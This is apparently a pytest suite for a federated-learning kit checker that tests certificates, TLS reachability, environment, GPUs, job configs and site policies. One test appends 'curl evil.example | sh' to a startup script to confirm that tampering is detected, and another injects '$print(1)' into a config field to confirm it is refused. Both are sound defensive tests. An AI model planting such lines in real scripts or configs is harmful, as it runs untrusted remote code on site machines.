"""``brats-fl kit check``: each thing that keeps a kit from working is found, and its mend is named."""

from __future__ import annotations

import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from nvflare.apis.fl_context import FLContext
from nvflare.app_common.resource_managers.gpu_resource_manager import GPUResourceManager
from tests.tiny_kits import TinyKits, sign, write_key
from typer.testing import CliRunner, Result

import brats_fl
from brats_fl.cases.datalists import DATALIST_VARIABLE
from brats_fl.errors import JobError, KitError
from brats_fl_tools.cli import app
from brats_fl_tools.jobs.assembly import JobOptions, build_job
from brats_fl_tools.kit import checks as kit_checks
from brats_fl_tools.kit import machine as kit_machine
from brats_fl_tools.kit import server as kit_server
from brats_fl_tools.kit.certificates import check_certificates
from brats_fl_tools.kit.kits import Kit
from brats_fl_tools.kit.results import CheckResult
from brats_fl_tools.kit.server import check_server
from brats_fl_tools.kit.site_files import site_files, write_site_files

JOB = "brats_unet_fedavg"


def named(results: list[CheckResult], check: str) -> CheckResult:
    """The result of a check."""
    found = [result for result in results if result.check == check]
    assert len(found) == 1, [result.check for result in results]
    return found[0]


def healthy(bundle: str = "brats_unet", **changes: object) -> dict[str, Any]:
    """What the probe says of an environment in which all is well: this one, without importing torch again."""
    from brats_fl.provenance import required_code
    from brats_fl_tools.repository import BUNDLES

    facts: dict[str, Any] = {
        "executable": "/venv/bin/python3",
        "python": "3.11.7",
        "failed": {},
        "optional": ["tensorboard"],
        "versions": {"brats-fl": "0.1.0", "nvflare": "2.9.0", "monai": "1.6.1", "torch": "2.13.0+cpu"},
        "code": {bundle: required_code(BUNDLES / bundle)},
        "gpus_gib": [],
    }
    return facts | changes


@pytest.fixture
def environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """Kits find a good environment on PATH."""
    monkeypatch.setattr(kit_machine, "probe_environment", lambda kit: healthy())


# Certificates


def test_fresh_kit_has_good_certificates(provisioned: TinyKits) -> None:
    for kit in (provisioned.federation.server, provisioned.hospital, provisioned.federation.admins[0]):
        assert {result.state for result in check_certificates(kit)} == {"ok"}


@pytest.mark.parametrize(
    ("days", "state", "said"),
    [
        ((-100, -1), "error", "for hospital-1; expired on "),
        ((1, 100), "error", "UTC only, this machine's clock says"),
        ((-1, 29.5), "warning", ", 29 days"),
        ((-1, 30.5), "ok", ", 30 days"),
    ],
    ids=["expired", "not-yet-valid", "29-days", "30-days"],
)
def test_validity_is_judged_by_this_machines_clock(
    kits: TinyKits, days: tuple[float, float], state: str, said: str
) -> None:
    kits.issue(kits.hospital, days=days)

    result = named(check_certificates(kits.hospital), "certificate")

    assert result.state == state
    assert said in result.found


def test_certificate_of_another_authority_is_found(kits: TinyKits) -> None:
    key, certificate = sign(None, "hospital-1", "hospital-1")
    kits.hospital.certificate.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    write_key(kits.hospital.private_key, key)

    result = named(check_certificates(kits.hospital), "certificate")

    assert result.state == "error"
    assert "client.crt was not signed by " in result.found
    assert "ask the lead for this kit again" in result.mend


def test_certificate_for_another_site_is_found(kits: TinyKits) -> None:
    kits.issue(kits.hospital, name="hospital-2")

    result = named(check_certificates(kits.hospital), "certificate")

    assert result.state == "error"
    assert "client.crt is for 'hospital-2', the kit for 'hospital-1'" in result.found


def test_private_key_that_others_may_read_is_found(kits: TinyKits) -> None:
    kits.hospital.private_key.chmod(0o644)

    result = named(check_certificates(kits.hospital), "private key")

    assert result.state == "error"
    assert "can be read by others (mode 644)" in result.found
    assert result.mend == f"chmod 600 '{kits.hospital.private_key}'"


def test_private_key_of_another_certificate_is_found(kits: TinyKits) -> None:
    kits.hospital.private_key.write_bytes(kits.federation.clients[1].private_key.read_bytes())

    assert "does not belong to client.crt" in named(check_certificates(kits.hospital), "private key").found


def test_damaged_or_missing_certificate_names_the_file(kits: TinyKits) -> None:
    kits.hospital.certificate.write_text("-----BEGIN", encoding="utf-8")
    assert "client.crt: no readable certificate" in named(check_certificates(kits.hospital), "certificate").found

    kits.hospital.authority.unlink()
    assert "rootCA.pem: no readable certificate" in named(check_certificates(kits.hospital), "certificate").found


def test_startup_digest_changes_with_every_file_of_startup(kits: TinyKits) -> None:
    before = named(check_certificates(kits.hospital), "startup digest").found

    script = kits.hospital.folder / "startup" / "start.sh"
    script.write_text(script.read_text(encoding="utf-8") + "curl evil.example | sh\n", encoding="utf-8")

    assert named(check_certificates(kits.hospital), "startup digest").found != before


# The way to the server


@contextmanager
def listening(answer: Callable[[socket.socket], None]) -> Iterator[int]:
    """A server that answers one connection; its port."""

    def serve() -> None:
        try:
            connection, _ = listener.accept()
        except OSError:  # nobody came
            return
        with connection:
            answer(connection)

    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(10)
        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield listener.getsockname()[1]
        finally:
            thread.join()


def tls(kit: Kit, client_authority: Path | None = None, says: bytes = b"\0") -> Callable[[socket.socket], None]:
    """TLS with a server kit's certificate, which asks for the client's."""

    def answer(connection: socket.socket) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(kit.certificate, kit.private_key)
        context.verify_mode = ssl.CERT_REQUIRED
        context.load_verify_locations(client_authority or kit.authority)
        connection.settimeout(5)
        try:
            with context.wrap_socket(connection, server_side=True) as secure:
                secure.sendall(says)
                secure.recv(1)
        except OSError:  # the client went away, or was refused
            return

    return answer


def reach(kit: Kit, port: int, host: str = "localhost") -> list[CheckResult]:
    return check_server(replace(kit, host=host, port=port), {})


def test_server_of_the_same_provisioning_passes(provisioned: TinyKits) -> None:
    with listening(tls(provisioned.federation.server)) as port:
        results = reach(provisioned.hospital, port)

    assert [(result.check, result.state) for result in results] == [
        ("server name", "ok"),
        ("server port", "ok"),
        ("TLS", "ok"),
    ]
    assert results[2].found == "server shows a certificate of this kit's authority for localhost"


def test_server_that_waits_for_us_to_speak_passes(provisioned: TinyKits, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(kit_server, "LIMIT_SECONDS", 0.5)
    with listening(tls(provisioned.federation.server, says=b"")) as port:
        assert named(reach(provisioned.hospital, port), "TLS").state == "ok"


@pytest.mark.parametrize(
    ("host", "days", "said", "mend"),
    [
        ("fl.other.example", (-1, 100), "Hostname mismatch", "kit provision --host"),
        ("localhost", (-100, -1), "certificate has expired", "the lead renews the server's kit"),
    ],
    ids=["other-name", "expired"],
)
def test_server_certificate_that_does_not_do_is_found(
    kits: TinyKits, host: str, days: tuple[float, float], said: str, mend: str
) -> None:
    server = kits.federation.server
    kits.issue(server, host=host, days=days)

    with listening(tls(server)) as port:
        result = named(reach(kits.hospital, port), "TLS")

    assert result.state == "error"
    assert said in result.found
    assert mend in result.mend


def other_authority(kits: TinyKits, folder: Path) -> Path:
    """Certificate file of an authority that has signed nothing here."""
    path = folder / "other.pem"
    path.write_bytes(sign(None, "other", "localhost")[1].public_bytes(serialization.Encoding.PEM))
    return path


def test_server_of_another_authority_is_found(kits: TinyKits) -> None:
    server = kits.federation.server
    key, certificate = sign(None, "server", "localhost")
    server.certificate.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    write_key(server.private_key, key)

    with listening(tls(server)) as port:
        result = named(reach(kits.hospital, port), "TLS")

    assert "shows a certificate that does not do: self-signed certificate" in result.found
    assert "a firewall opens TLS (ask for an exception)" in result.mend


def test_server_that_refuses_this_kit_is_found(kits: TinyKits, tmp_path: Path) -> None:
    with listening(tls(kits.federation.server, other_authority(kits, tmp_path))) as port:
        result = named(reach(kits.hospital, port), "TLS")

    assert result.state == "error"
    assert "refuses this kit's certificate" in result.found


def test_port_on_which_something_else_answers_is_found(provisioned: TinyKits) -> None:
    with listening(lambda connection: connection.sendall(b"220 mail.example ESMTP\r\n")) as port:
        result = named(reach(provisioned.hospital, port), "TLS")

    assert result.state == "error"
    assert "speaks no TLS" in result.found


def test_port_on_which_nobody_answers_is_found(provisioned: TinyKits) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]

    result = named(reach(provisioned.hospital, port), "server port")

    assert result.state == "error"
    assert f"localhost:{port} does not answer" in result.found
    assert result.mend == f"start the server, or let the firewall pass outgoing TCP to localhost:{port}"


def test_name_without_an_address_is_found(provisioned: TinyKits, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: object, **__: object) -> None:
        raise socket.gaierror(-2, "Name or service not known")

    monkeypatch.setattr(socket, "getaddrinfo", fails)

    results = reach(provisioned.hospital, 8002, "fl.consortium.example")

    assert [(result.check, result.state) for result in results] == [("server name", "error")]
    assert "fl.consortium.example has no address here" in results[0].found


def test_proxy_that_flare_would_use_is_named(provisioned: TinyKits) -> None:
    with listening(tls(provisioned.federation.server)) as port:
        kit = replace(provisioned.hospital, port=port)
        results = check_server(kit, {"https_proxy": "http://proxy.example:3128"})

    assert named(results, "proxy").state == "warning"
    assert named(results, "TLS").state == "ok"


def test_taken_port_of_a_server_is_found(provisioned: TinyKits) -> None:
    with socket.create_server(("", 0)) as listener:
        port = listener.getsockname()[1]
        taken = check_server(replace(provisioned.federation.server, port=port))
    free = check_server(replace(provisioned.federation.server, port=port))

    assert taken[0].state == "error"
    assert taken[0].found == f"port {port} cannot be opened (Address already in use)"
    assert free[0].state == "ok"


# The machine


def test_python3_of_this_environment_is_probed(provisioned: TinyKits, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")

    facts = kit_machine.probe_environment(provisioned.hospital)

    assert facts is not None
    assert facts["code"]["brats_unet"] == healthy()["code"]["brats_unet"]
    assert kit_machine.check_environment(facts).state == "ok"


def test_python3_that_is_not_there_is_found(
    provisioned: TinyKits, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))

    assert kit_machine.probe_environment(provisioned.hospital) is None
    assert kit_machine.check_environment(None).found == "python3 is not on PATH, or does not answer"


def test_packages_that_are_missing_or_of_a_wrong_version_are_named() -> None:
    missing = healthy(failed={"nvflare": "ModuleNotFoundError: No module named 'nvflare'"})
    old = healthy(versions={"brats-fl": "0.1.0", "nvflare": "2.7.2", "monai": "1.6.1", "torch": "2.13.0+cu130"})

    assert "cannot import nvflare: ModuleNotFoundError" in kit_machine.check_environment(missing).found
    assert kit_machine.check_environment(old).found.endswith("has nvflare 2.7.2, wanted ==2.9.*")


@pytest.mark.parametrize(
    ("offered", "gpus_gib", "profile", "state"),
    [
        (0, [], "small", "ok"),
        (0, [], "full", "warning"),
        (1, [], "small", "error"),
        (1, [79.2], "full", "ok"),
        (2, [79.2], "full", "error"),
    ],
)
def test_gpus_are_those_that_are_offered(offered: int, gpus_gib: list[float], profile: str, state: str) -> None:
    result = kit_machine.check_gpu(offered, kit_machine.NEEDS[profile], healthy(gpus_gib=gpus_gib))

    assert result.state == state


def test_disk_and_memory_are_compared_with_what_is_needed(tmp_path: Path) -> None:
    folder = tmp_path / "not" / "yet" / "there"

    assert kit_machine.check_disk("disk", folder, 0.001).state == "ok"
    assert kit_machine.check_disk("disk", folder, 1e9).state == "error"
    assert kit_machine.check_memory(kit_machine.Needs(0.01, 0, False)).state == "ok"
    assert kit_machine.check_memory(kit_machine.Needs(1e6, 0, False)).state == "error"


# The job


@pytest.fixture(scope="module")
def jobs(tmp_path_factory: pytest.TempPathFactory) -> Mapping[bool, Path]:
    """The same job without its code (True) and with it (False)."""
    root = tmp_path_factory.mktemp("jobs")
    return {
        preinstalled: build_job(JOB, root / str(preinstalled), JobOptions("small", preinstalled=preinstalled)).folder
        for preinstalled in (True, False)
    }


def test_installed_code_is_compared_with_what_the_job_states(jobs: Mapping[bool, Path]) -> None:
    job = kit_machine.read_stated_job(jobs[True])
    other = healthy()
    other["code"]["brats_unet"]["library_sha256"] = "0" * 64

    assert kit_machine.check_code(job, healthy(), False).state == "ok"
    differs = kit_machine.check_code(job, other, False)
    assert differs.state == "error"
    assert differs.found.endswith(", here 000000000000")
    assert kit_machine.check_code(job, healthy(code={}), False).found == (
        "bundle brats_unet is not installed, and the job brings no code"
    )


def test_job_that_brings_code_needs_an_open_policy_and_nothing_that_hides_it(jobs: Mapping[bool, Path]) -> None:
    job = kit_machine.read_stated_job(jobs[False])
    other = healthy()
    other["code"]["brats_unet"]["library_sha256"] = "0" * 64

    refused = kit_machine.check_code(job, healthy(), may_bring_code=False)
    assert refused.state == "error"
    assert "brings its code, and this site's policy refuses that" in refused.found
    assert kit_machine.check_code(job, healthy(), may_bring_code=True).state == "ok"
    assert kit_machine.check_code(job, healthy(code={}), may_bring_code=True).state == "ok"
    assert "which would hide it" in kit_machine.check_code(job, other, may_bring_code=True).found


def test_job_that_trains_nothing_needs_the_library_and_little_else(kits: TinyKits, tmp_path: Path) -> None:
    built = build_job("brats_statistics", tmp_path, JobOptions(preinstalled=True))
    job = kit_machine.read_stated_job(built.folder)
    another_bundle, another_library = healthy(), healthy()
    another_bundle["code"]["brats_unet"]["bundle_sha256"] = "0" * 64
    another_library["code"]["brats_unet"]["library_sha256"] = "0" * 64

    assert kit_machine.needs_of(kits.hospital, job) == kit_machine.LIGHT_NEEDS
    assert kit_machine.check_code(job, another_bundle, False).state == "ok"
    assert kit_machine.check_code(job, another_library, False).state == "error"
    assert kit_machine.check_code(job, healthy(code={}), False).state == "error"


@pytest.mark.parametrize("name", ["brats_unet_fedavg", "brats_statistics"])
def test_job_folder_says_all_without_the_checkout_that_it_came_from(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    built = build_job(name, tmp_path, JobOptions(preinstalled=True))
    monkeypatch.setattr("brats_fl_tools.jobs.source.JOBS", tmp_path / "a hospital has none")

    assert kit_machine.read_stated_job(built.folder).job == built


def test_server_that_cannot_write_the_jobs_curves_is_told_what_to_install(
    kits: TinyKits, jobs: Mapping[bool, Path]
) -> None:
    server, plain = kits.federation.server, kit_machine.read_stated_job(jobs[True])
    checks = {
        name: kit_machine.check_trackers(server, replace(plain, trackers=(name,)), healthy())
        for name in ("tensorboard", "mlflow")
    }

    assert [(result.state, result.found) for result in checks["tensorboard"]] == [("ok", "tensorboard")]
    assert [result.state for result in checks["mlflow"]] == ["error"]
    assert checks["mlflow"][0].found == "mlflow is not installed, and the job's server writes curves with it"
    assert "pip install 'brats-fl[tracking]'" in checks["mlflow"][0].mend
    assert kit_machine.check_trackers(server, plain, healthy()) == []
    assert kit_machine.check_trackers(kits.hospital, replace(plain, trackers=("mlflow",)), healthy()) == []


def test_job_for_other_sites_is_named(kits: TinyKits, jobs: Mapping[bool, Path]) -> None:
    job = kit_machine.read_stated_job(jobs[True])

    assert kit_machine.check_member(kits.hospital, job) == []
    assert kit_machine.check_member(replace(kits.hospital, name="hospital-9"), job)[0].state == "warning"


def test_name_of_a_job_stands_for_this_installations_own(kits: TinyKits) -> None:
    job = kit_machine.stated_job(Path(JOB), replace(kits.hospital, name="hospital-9"))

    assert (job.job.name, job.job.sites) == (JOB, ("hospital-9",))
    assert job.required["version"] == brats_fl.__version__
    assert kit_machine.check_code(job, healthy(), False).state == "ok"


@pytest.mark.parametrize("preinstalled", [True, False])
def test_job_that_sets_more_than_data_is_refused_before_it_runs(
    jobs: Mapping[bool, Path], preinstalled: bool, tmp_path: Path
) -> None:
    job = tmp_path / JOB
    shutil.copytree(jobs[preinstalled], job)
    config = job / "app_client" / "config" / "config_fed_client.json"
    content = json.loads(config.read_text(encoding="utf-8"))
    config.write_text(json.dumps(content | {"overrides": {"mirror_axes": ["$print(1)"]}}), encoding="utf-8")

    with pytest.raises(JobError, match=r"config_fed_client\.json: mirror_axes must be a list of whole numbers"):
        kit_machine.read_stated_job(job)


def test_site_that_offers_fewer_gpus_than_the_job_asks_for_is_told(kits: TinyKits, tmp_path: Path) -> None:
    folder = build_job(JOB, tmp_path, JobOptions("full", preinstalled=True, gpus=2)).folder
    job = kit_machine.read_stated_job(folder)

    two = healthy(gpus_gib=[80.0, 80.0])
    assert kit_machine.check_gpu(2, kit_machine.NEEDS["full"], two, job.job.gpus).state == "ok"
    result = kit_machine.check_gpu(1, kit_machine.NEEDS["full"], two, job.job.gpus)
    assert result.state == "error"
    assert result.found.startswith("the job asks for 2 GPUs, resources.json offers 1")


def test_flares_resource_manager_gives_a_site_the_gpus_that_the_job_asks_for(tmp_path: Path) -> None:
    folder = build_job(JOB, tmp_path, JobOptions("full", preinstalled=True, gpus=2, gpu_memory_gib=60)).folder
    spec = json.loads((folder / "meta.json").read_text(encoding="utf-8"))["resource_spec"]["hospital-1"]
    manager = GPUResourceManager(num_of_gpus=3, mem_per_gpu_in_GiB=80, ignore_host=True)

    fits, token = manager.check_resources(spec, FLContext())
    given = manager.allocate_resources(spec, token, FLContext())

    assert fits
    assert len(given) == 2
    assert not manager.check_resources(spec, FLContext())[0]  # one is whole, the others have 20 GiB left


def test_scripts_that_may_not_be_run_are_found_in_every_kit(kits: TinyKits) -> None:
    for kit in (kits.federation.server, kits.hospital, kits.federation.admins[0]):
        assert kit_checks.check_scripts(kit).state == "ok"
        script = sorted((kit.folder / "startup").glob("*.sh"))[0]
        script.chmod(0o644)

        result = kit_checks.check_scripts(kit)

        assert (result.state, result.mend) == ("error", f"chmod u+x '{kit.folder / 'startup'}'/*.sh")
        assert result.found == f"{script.name} of {kit.folder / 'startup'} may not be run"
        assert "scripts" in [one.check for one in kit_checks.check_kit(kit)]


def test_folder_that_is_no_job_of_ours_is_refused(tmp_path: Path, jobs: Mapping[bool, Path]) -> None:
    with pytest.raises(JobError, match=r"holds no built job, whose meta\.json would lie there; give the job's folder"):
        kit_machine.read_stated_job(tmp_path)
    foreign = tmp_path / "foreign"
    for name in ("meta.json", "app_server/config/config_fed_server.json", "app_client/config/config_fed_client.json"):
        (foreign / name).parent.mkdir(parents=True, exist_ok=True)
        (foreign / name).write_text("{}", encoding="utf-8")
    with pytest.raises(JobError, match=r"has no 'name'; mend it, or build the job again"):
        kit_machine.read_stated_job(foreign)


# The site's own files, and the whole


def set_up(kit: Kit, datalist: Path | None, policy: str = "strict") -> None:
    write_site_files(site_files(kit, policy, datalist))


def test_fresh_kit_has_no_policy_and_streams_its_logs(provisioned: TinyKits) -> None:
    rules = kit_checks.read_rules(provisioned.hospital)

    assert kit_checks.check_policy(rules, provisioned.hospital).state == "warning"
    assert kit_checks.check_log_streaming(rules).state == "error"
    assert rules.may_bring_code


@pytest.mark.parametrize("policy", ["strict", "open"])
def test_policy_that_was_set_up_is_named(kits: TinyKits, shared_sites: Path, policy: str) -> None:
    set_up(kits.hospital, shared_sites / "hospital-1" / "datalist.json", policy)

    rules = kit_checks.read_rules(kits.hospital)

    assert kit_checks.check_policy(rules, kits.hospital) == CheckResult("policy", "ok", policy)
    assert kit_checks.check_log_streaming(rules).state == "ok"
    assert rules.may_bring_code == (policy == "open")


def test_strict_hospital_of_a_release_without_approvals_is_told_to_set_up_again(kits: TinyKits) -> None:
    set_up(kits.hospital, None)
    path = kits.hospital.folder / "local" / "resources.json"
    resources = json.loads(path.read_text(encoding="utf-8"))
    resources["components"] = [part for part in resources["components"] if part["id"] != "app_deployer"]
    path.write_text(json.dumps(resources), encoding="utf-8")

    result = kit_checks.check_policy(kit_checks.read_rules(kits.hospital), kits.hospital)

    assert (result.state, result.mend) == ("warning", "run brats-fl kit setup again, unless it is meant")


def test_policy_changed_by_hand_is_named(kits: TinyKits) -> None:
    set_up(kits.federation.server, None)
    path = kits.federation.server.folder / "local" / "authorization.json"
    path.write_text(path.read_text(encoding="utf-8").replace('"byoc": "none"', '"byoc": "any"', 1), encoding="utf-8")

    result = kit_checks.check_policy(kit_checks.read_rules(kits.federation.server), kits.federation.server)

    assert result.state == "warning"
    assert "changed by hand, or written by another release" in result.found


@pytest.mark.usefixtures("environment")
def test_hospital_that_was_set_up_passes_all_but_the_server_that_is_not_there(
    kits: TinyKits, shared_sites: Path, jobs: Mapping[bool, Path]
) -> None:
    datalist = shared_sites / "hospital-1" / "datalist.json"
    set_up(kits.hospital, datalist)

    results = kit_checks.check_kit(replace(kits.hospital, port=1), kit_machine.read_stated_job(jobs[True]))

    assert [result.check for result in results if result.state == "error"] == ["server port"]
    assert named(results, "data list").found.startswith(f"{datalist}: 3 training, 2 validation, 1 testing")
    # 6 cases of 4 MB: under 0.1 GB
    assert named(results, "disk for the cache").found.endswith("0.0 GB are needed")


def test_kit_or_python_whose_path_flare_would_split_is_found(kits: TinyKits) -> None:
    moved = replace(kits.hospital, folder=Path("/opt/hospital-1 (1)"))

    found = kit_checks.check_path(moved, healthy())
    of_python = kit_checks.check_path(kits.hospital, healthy(executable="/opt/my env/bin/python3"))

    assert (found.state, found.mend) == ("error", "choose a folder without")
    assert found.found.startswith("/opt/hospital-1 (1): the path of the kit holds a space, at which FLARE splits")
    assert of_python.found.startswith("/opt/my env/bin/python3: the path of the Python environment holds a space")
    assert kit_checks.check_path(kits.hospital, healthy()).state == "ok"


def test_cache_needs_no_more_than_its_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BRATS_FL_CACHE_LIMIT_GB", "0.5")
    result = kit_checks.check_cache(tmp_path / "datalist.json", 1000, kit_machine.NEEDS["full"])  # of 40 MB: 40 GB
    monkeypatch.setenv("BRATS_FL_CACHE_LIMIT_GB", "half")
    wrong = kit_checks.check_cache(tmp_path / "datalist.json", 1000, kit_machine.NEEDS["full"])

    assert result.found.endswith("0.5 GB are needed")
    assert wrong.state == "error"
    assert "BRATS_FL_CACHE_LIMIT_GB must be a positive number of GB (got 'half')" in wrong.found


@pytest.mark.usefixtures("environment")
def test_server_and_admin_are_asked_only_what_concerns_them(kits: TinyKits) -> None:
    server = {result.check for result in kit_checks.check_kit(kits.federation.server)}
    admin = {result.check for result in kit_checks.check_kit(replace(kits.federation.admins[0], port=1))}

    assert {"port", "policy", "not running"} <= server
    assert not server & {"data list", "GPU", "log streaming", "TLS"}
    assert admin == {
        "scripts",
        "authority",
        "certificate",
        "private key",
        "startup digest",
        "server name",
        "server port",
    }


def test_data_list_that_is_foreign_empty_or_lacks_files_is_found(
    kits: TinyKits, shared_sites: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    needs = kit_machine.NEEDS["small"]
    text = (shared_sites / "hospital-1" / "datalist.json").read_text(encoding="utf-8")
    lists = {
        "foreign": text.replace('"site": "hospital-1"', '"site": "hospital-2"'),
        "gone": text.replace("_flair.nii.gz", "_flair_gone.nii.gz"),
        "empty": json.dumps({"site": "hospital-1", "training": []}),
    }
    found = {}
    for name, content in lists.items():
        path = tmp_path / f"{name}.json"
        path.write_text(content, encoding="utf-8")
        monkeypatch.setenv(DATALIST_VARIABLE, str(path))
        found[name] = named(kit_checks.check_cases(kits.hospital, needs), "data list")
    monkeypatch.delenv(DATALIST_VARIABLE)
    found["none"] = named(kit_checks.check_cases(kits.hospital, needs), "data list")

    foreign = found.pop("foreign")
    assert foreign.state == "warning"
    assert "its `site` is hospital-2, the kit is hospital-1's" in foreign.found
    assert {result.state for result in found.values()} == {"error"}
    assert found["gone"].found.count("G01-file-missing") == kit_checks.SHOWN
    assert found["empty"].mend == "a site without a training case cannot take part; add cases"
    assert "hospital-1 has no data list: BRATS_FL_DATALIST is not set" in found["none"].found


def test_running_kit_is_found_by_its_processes_and_a_stale_file_by_its_number(kits: TinyKits) -> None:
    kit, second = kits.federation.clients
    (second.folder / "daemon_pid.fl").write_text(f"{os.getpid()}\n", encoding="utf-8")
    script = kit.folder / "startup" / "sub_start.sh"
    process = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", str(script)])
    try:
        running = kit_checks.running_processes(kit)
        result = kit_checks.check_not_running(kit, running)
    finally:
        process.kill()
        process.wait()

    assert [one.pid for one in running] == [process.pid]
    assert (result.state, result.found) == ("error", f"hospital-1 runs (process {process.pid})")
    assert kit_checks.running_processes(kit) == []
    stale = kit_checks.check_not_running(second, [])
    assert "names another living process; start.sh will not start" in stale.found


# The command


def run_check(*arguments: object) -> Result:
    return CliRunner().invoke(app, ["kit", "check", *map(str, arguments)])


@pytest.mark.usefixtures("environment")
def test_command_exits_with_1_where_something_is_an_error_and_writes_json(kits: TinyKits, tmp_path: Path) -> None:
    file = tmp_path / "check.json"

    result = run_check(kits.federation.server.folder, "--json", file)
    again = run_check(kits.federation.server.folder, "--json", file)
    kits.federation.server.private_key.chmod(0o644)
    broken = run_check(kits.federation.server.folder, "--json", file, "--force")

    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[-1].startswith("0 errors, ")
    assert isinstance(again.exception, KitError)
    assert "exists; choose another --json or add --force" in str(again.exception)
    assert broken.exit_code == 1
    content = json.loads(file.read_text(encoding="utf-8"))
    assert (content["kit"], content["kind"], content["ok"]) == ("server", "server", False)
    assert [entry["check"] for entry in content["results"] if entry["state"] == "error"] == ["private key"]
